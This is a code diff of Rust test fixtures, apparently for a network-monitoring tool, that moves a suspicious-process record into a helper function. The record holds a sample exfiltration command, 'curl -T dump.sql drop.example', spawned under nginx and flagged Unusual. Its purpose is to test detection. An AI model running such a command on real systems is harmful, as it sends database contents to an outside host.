@@ -66,6 +66,21 @@ fn flow(protocol: Protocol, local: Endpoint, remote: Endpoint, out: u64) -> Row 
     }
 }
 
+fn curl() -> Owner {
+    Owner {
+        exe: Label::new("/usr/bin/curl"),
+        comm: Label::new("curl"),
+        pid: 4_411,
+        uid: Some(33),
+        unit: Some(Label::new("nginx.service")),
+        confidence: Confidence::Exact,
+        cmdline: Label::new("curl -T dump.sql drop.example"),
+        parents: [Parent { pid: 4_400, comm: Label::new("sh"), exe: Label::new("/bin/dash") }].into(),
+        traits: Traits::DELETED,
+        ..Owner::default()
+    }
+}
+
 fn snapshot() -> Snapshot {
     let lit = Row {
         bytes_in: 600,
@@ -79,18 +94,7 @@ fn snapshot() -> Snapshot {
             ja4: Some(Label::new("t13d1516h2_8daaf6152771_02713d6af862")),
             ..Facts::default()
         })),
-        owner: Some(Arc::new(Owner {
-            exe: Label::new("/usr/bin/curl"),
-            comm: Label::new("curl"),
-            pid: 4_411,
-            uid: Some(33),
-            unit: Some(Label::new("nginx.service")),
-            confidence: Confidence::Exact,
-            cmdline: Label::new("curl -T dump.sql drop.example"),
-            parents: [Parent { pid: 4_400, comm: Label::new("sh"), exe: Label::new("/bin/dash") }].into(),
-            traits: Traits::DELETED,
-            ..Owner::default()
-        })),
+        owner: Some(Arc::new(curl())),
         owner_since: Some(START),
         state: TcpState::Established,
         verdict: Verdict::Unusual,
